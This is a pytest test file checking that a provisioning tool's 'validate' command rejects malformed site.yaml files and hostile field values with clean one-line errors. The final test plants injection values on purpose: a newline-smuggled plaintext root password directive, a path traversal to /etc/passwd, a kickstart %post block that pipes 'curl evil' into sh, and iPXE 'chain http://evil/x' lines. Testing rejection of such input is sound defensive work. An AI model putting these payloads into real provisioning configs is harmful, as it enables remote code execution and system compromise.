"""`provisioner validate` on files that are not site.yaml (issue 18): a clean error, exit 2.

Never an internal error (exit 70), never a hang (each run has a timeout), one
clean line naming the file and what is wrong with it.
"""

from __future__ import annotations

import os
import subprocess
import sys
from collections.abc import Callable
from pathlib import Path

import pytest

from provisioner.errors import EXIT_CONFIG


def validate(site: Path | str, state: Path) -> subprocess.CompletedProcess[str]:
    cmd = [sys.executable, "-m", "provisioner", "--site", str(site), "--state-dir", str(state)]
    return subprocess.run([*cmd, "validate"], capture_output=True, text=True, timeout=30)


def _deep(path: Path) -> None:
    path.write_text("site: " + "[" * 5000 + "]" * 5000 + "\n")


def _laughs(path: Path) -> None:
    lines = ["a: &a [x, x, x, x, x, x, x, x, x]"]
    for prev, name in zip("abcdefgh", "bcdefghi", strict=True):
        lines.append(f"{name}: &{name} [{', '.join([f'*{prev}'] * 9)}]")
    path.write_text("\n".join(lines) + "\n")


def _big(path: Path) -> None:
    with path.open("wb") as handle:
        handle.truncate(33 * 1024 * 1024)


# (name, make the file, what the one line says)
CASES: list[tuple[str, Callable[[Path], None], str]] = [
    ("fifo", lambda p: os.mkfifo(p), "cannot read: not a regular file"),
    ("directory", lambda p: p.mkdir(), "cannot read: a directory"),
    ("binary", lambda p: p.write_bytes(bytes(range(256)) * 4), "not UTF-8 text: byte 128 (0x80)"),
    (
        "latin-1",
        lambda p: p.write_bytes("site: {name: caf\xe9}\n".encode("latin-1")),
        "byte 16 (0xe9)",
    ),
    ("utf-16", lambda p: p.write_text("site: {name: x}\n", encoding="utf-16"), "byte 0 (0xff)"),
    (
        "nul",
        lambda p: p.write_bytes(b"site:\n  name: a\x00b\n"),
        "2:10: malformed YAML: character U+0000 is not allowed",
    ),
    ("deep nesting", _deep, "nested deeper than 64 levels"),
    ("billion laughs", _laughs, "through aliases"),
    ("too big", _big, "larger than 32 MiB"),
    ("missing", lambda p: None, "cannot read: No such file or directory"),
]


@pytest.mark.parametrize(("name", "make", "says"), CASES, ids=[c[0] for c in CASES])
def test_validate_refuses_what_is_not_a_site_file(
    tmp_path: Path, name: str, make: Callable[[Path], None], says: str
) -> None:
    path = tmp_path / "site.yaml"
    make(path)
    result = validate(path, tmp_path / "state")
    assert result.returncode == EXIT_CONFIG, result.stderr
    lines = result.stderr.splitlines()
    assert len(lines) == 1 and lines[0].startswith(f"error: {path}"), result.stderr
    assert says in lines[0]
    assert "internal error" not in result.stderr and "Traceback" not in result.stderr


def test_validate_refuses_a_character_device(tmp_path: Path) -> None:
    result = validate("/dev/zero", tmp_path / "state")
    assert result.returncode == EXIT_CONFIG
    assert result.stderr == "error: /dev/zero: cannot read: not a regular file\n"


def test_hostile_values_are_refused_one_line_each(site_dir: Path) -> None:
    """Each injected value is one problem on one line, naming its field; nothing leaks
    onto a line of its own in the report."""
    path = site_dir / "site.yaml"
    text = path.read_text()
    text = text.replace("  timezone: UTC\n", '  timezone: "UTC\\nrootpw --plaintext injected"\n')
    text = text.replace("kickstart: default.ks.j2", "kickstart: ../../../../etc/passwd")
    text = text.replace("packages: [chrony]", 'packages: ["chrony\\n%post\\ncurl evil|sh\\n%end"]')
    text = text.replace('macs: ["52:54:00:00:02:0b"]', 'macs: ["00:00:00:00:00:00"]')
    text = text.replace("rack: r2\n", 'rack: "r2\\u2028chain http://evil/x"\n', 1)
    text = text.replace(
        "    kickstart: ../",
        '    kernel_args: "quiet\\nchain http://evil/x"\n    kickstart: ../',
    )
    path.write_text(text)
    result = validate(path, site_dir / "state")
    assert result.returncode == EXIT_CONFIG
    lines = result.stdout.splitlines()
    assert all(line.startswith(f"{path}: line ") for line in lines), result.stdout
    fields = {line.split(": ")[3] + ": " + line.split(": ")[4] for line in lines}
    assert fields == {
        "defaults: timezone",
        "profile rocky9: kickstart",
        "profile rocky9: kernel_args",
        "role controller: packages[0]",
        "node ctl1: macs[0]",
        "node ctl2: rack",
    }, result.stdout
    assert "injected" not in result.stdout.replace("\\nrootpw --plaintext injected", "")
